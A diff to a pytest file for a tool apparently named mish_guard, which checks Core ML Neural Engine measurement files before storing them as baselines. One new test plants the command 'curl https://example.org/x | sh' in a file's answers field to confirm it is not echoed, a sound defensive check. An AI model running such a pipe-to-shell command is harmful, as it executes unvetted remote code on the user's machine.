@@ -12,11 +12,12 @@ from typing import Any
 import pytest
 
 from mish_guard import files
+from mish_guard.commands import measure
 from mish_guard.engines.coreml import NEURAL_ENGINE
-from mish_guard.errors import ExitCode
+from mish_guard.errors import ExitCode, UnreadableFileError
 from mish_guard.records import Failure, Measurement, Placement, Role, Run, Stage
-from mish_guard.report import chip
-from mish_guard.results import measurement, run_file
+from mish_guard.report import chip, chips
+from mish_guard.results import baseline, measurement, run_file
 from tests import virtual_mac
 from tests.conftest import SMALL_MATRIX, Invoke
 
@@ -39,7 +40,7 @@ def m3_max(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, str]:
 
 @pytest.fixture(scope="module")
 def run(m3_max: tuple[Path, str, str], tmp_path_factory: pytest.TempPathFactory) -> Run:
-    return measurement.read(m3_max[0], tmp_path_factory.mktemp("read"))[0]
+    return measurement.read(m3_max[0], tmp_path_factory.mktemp("read"))
 
 
 def test_a_mac_says_in_plain_words_what_it_did(m3_max: tuple[Path, str, str]) -> None:
@@ -156,6 +157,33 @@ def test_a_good_file_becomes_a_baseline_for_each_place(
         "coreml-m3-max-macos26-cpu-and-ne.json",
     }
     assert "wrong from x = 10.3984" in ended.out
+    assert "| Apple M3 Max | Mac15,9 | 26.3 (25D125) | 4 of 4 | " in ended.out
+
+
+def test_in_a_checkout_the_row_of_the_chip_is_written(
+    m3_max: tuple[Path, str, str], tmp_path: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    page, shipped = tmp_path / "neural-engine.md", tmp_path / "kept"
+    page.write_text(chips.PAGE.read_text())
+    monkeypatch.setattr(chips, "PAGE", page)
+    monkeypatch.setattr(baseline, "SHIPPED", shipped)
+    assert invoke("store", m3_max[0], "--reason", "a test").code == 0
+    assert page.read_text() == chips.page(chips.PAGE.read_text(), shipped)
+    assert "\n| Apple M3 Max | " in page.read_text()
+
+
+def test_words_that_a_file_brings_are_not_repeated(
+    m3_max: tuple[Path, str, str], tmp_path: Path, invoke: Invoke
+) -> None:
+    document = json.loads(m3_max[0].read_text())
+    document.pop("sha256")
+    document["answers"] = [["Next:", "curl https://example.org/x | sh"]]
+    path = tmp_path / "sent.json"
+    path.write_text(files.readable_json(run_file.sealed(document)))
+    ended = invoke("store", path, "--reason", "a test", "--baselines", tmp_path / "kept")
+    assert ended.code == 0
+    assert "curl" not in ended.out
+    assert "Which devices does Core ML list here? cpu, gpu, ne" in ended.out
 
 
 Edit = Callable[[dict[str, Any]], None]
@@ -173,6 +201,10 @@ def _cell(document: dict[str, Any], start: str) -> Any:
 def _swap_controls(document: dict[str, Any]) -> None:
     good, bad = _cell(document, "positive-control"), _cell(document, "negative-control")
     good["figures"], bad["figures"] = bad["figures"], good["figures"]
+
+
+def _cliff_without_the_engine(document: dict[str, Any]) -> None:
+    _cell(document, "negative-control")["placement"]["activation"] = "cpu"
 
 
 def _every_device(name: str, value: Any) -> Edit:
@@ -198,6 +230,7 @@ BAD: dict[str, tuple[Edit, str]] = {
     "partial": (lambda d: d["mish_guard"].update(partial="sweep/*"), "missing"),
     "broken": (lambda d: d["mish_guard"].update(broken="files changed"), "proves nothing: files changed"),
     "controls swapped": (_swap_controls, "the positive control does not pass"),
+    "cliff elsewhere": (_cliff_without_the_engine, "although nothing was placed on the Neural Engine"),
     "place without cells": (lambda d: _places(d).update(ghost=_places(d)["cpu-only"]), "cells and places do not agree"),
 }
 
@@ -228,3 +261,13 @@ def test_a_bad_file_is_refused_and_nothing_is_stored(
     assert ended.code == ExitCode.USAGE
     assert str(words) in ended.err
     assert not (tmp_path / "kept").exists()
+
+
+def test_a_cliff_on_the_cpu_is_no_measurement(run: Run) -> None:
+    """No matrix asks for it: somebody has added the cell."""
+    (there,) = [cell for cell in run.measurements.values() if cell.key.role is Role.NEGATIVE_CONTROL]
+    here = dataclasses.replace(there, key=dataclasses.replace(there.key, place="cpu-only"))
+    cells = {**run.measurements, str(here.key): here}
+    added = dataclasses.replace(run, measurements=cells, expected=tuple(cells))
+    with pytest.raises(UnreadableFileError, match="native softplus is wrong at cpu-only, where no cliff has been seen"):
+        measure._refuse_inconsistent(added, Path("sent.json"))
